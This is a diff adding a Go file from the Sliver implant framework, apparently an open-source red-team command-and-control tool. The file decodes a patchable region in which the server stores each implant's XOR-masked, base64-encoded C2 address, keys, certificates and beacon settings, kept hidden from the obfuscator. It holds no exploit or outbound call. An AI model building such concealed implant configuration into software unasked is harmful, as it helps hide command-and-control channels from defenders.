@@ -0,0 +1,87 @@
+package constants
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	// {{if .Patchable}}
+	"encoding/base64"
+	"strings"
+	// {{end}}
+)
+
+// Fields of the patch region, in the order the server writes them
+const (
+	PatchName = iota
+	PatchKey
+	PatchCert
+	PatchCACert
+	PatchC2
+	PatchReconnectInterval
+	PatchMaxConnectionErrors
+	PatchBeaconInterval
+	PatchBeaconJitter
+)
+
+// {{if .Patchable}}
+
+// patchRegion - The server patches this in place for each variant, it's a random
+// key followed by the masked config and padding. The prefix tells the obfuscator
+// to leave the region as is, it removes the prefix.
+var patchRegion = strings.TrimPrefix("patch://{{PatchRegion}}", "patch://")
+
+const patchKeySize = 32
+
+var patchFields = parsePatchRegion(patchRegion)
+
+func parsePatchRegion(region string) []string {
+	if len(region) < patchKeySize {
+		return []string{}
+	}
+	key := region[:patchKeySize]
+	data, err := base64.StdEncoding.DecodeString(strings.TrimRight(region[patchKeySize:], " "))
+	if err != nil {
+		return []string{}
+	}
+	for index := range data {
+		data[index] ^= key[index%len(key)]
+	}
+	fields := []string{}
+	for _, field := range strings.Split(string(data), "\n") {
+		value, err := base64.StdEncoding.DecodeString(field)
+		if err != nil {
+			return []string{}
+		}
+		fields = append(fields, string(value))
+	}
+	return fields
+}
+
+// {{end}}
+
+// Patched - A value from the patch region of a patchable implant, other
+// implants have the value they were built with
+func Patched(field int, value string) string {
+	// {{if .Patchable}}
+	value = ""
+	if field < len(patchFields) {
+		value = patchFields[field]
+	}
+	// {{end}}
+	return value
+}